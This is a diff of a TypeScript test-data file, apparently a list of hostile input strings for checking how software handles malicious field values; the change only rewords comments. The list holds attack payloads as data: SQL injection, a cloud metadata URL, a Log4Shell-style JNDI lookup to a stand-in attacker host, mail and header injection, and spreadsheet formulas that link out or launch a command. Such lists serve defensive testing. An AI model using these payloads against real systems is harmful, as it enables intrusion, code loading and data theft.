@@ -1,4 +1,4 @@
-/** What attackers, and unlucky keyboards, type into a field. */
+/** Texts with which attackers and unusual keyboards break programs. */
 export const HOSTILE: readonly string[] = [
   // SQL, of both engines
   "' or 1=1 --",
@@ -43,12 +43,12 @@ export const HOSTILE: readonly string[] = [
   'http://169.254.169.254/latest/meta-data/',
   '//evil.example',
   '${jndi:ldap://evil.example/a}',
-  // mail and header injection, cells that count
+  // mail and header injection, spreadsheet formulas
   'a@shop.in\r\nBcc: b@evil.example',
   'x\r\nset-cookie: a=b',
   '=HYPERLINK("http://evil.example")',
   '@SUM(1+1)*cmd|" /C calc"!A0',
-  // numbers that are none
+  // texts that look like numbers
   'NaN',
   'Infinity',
   '-Infinity',
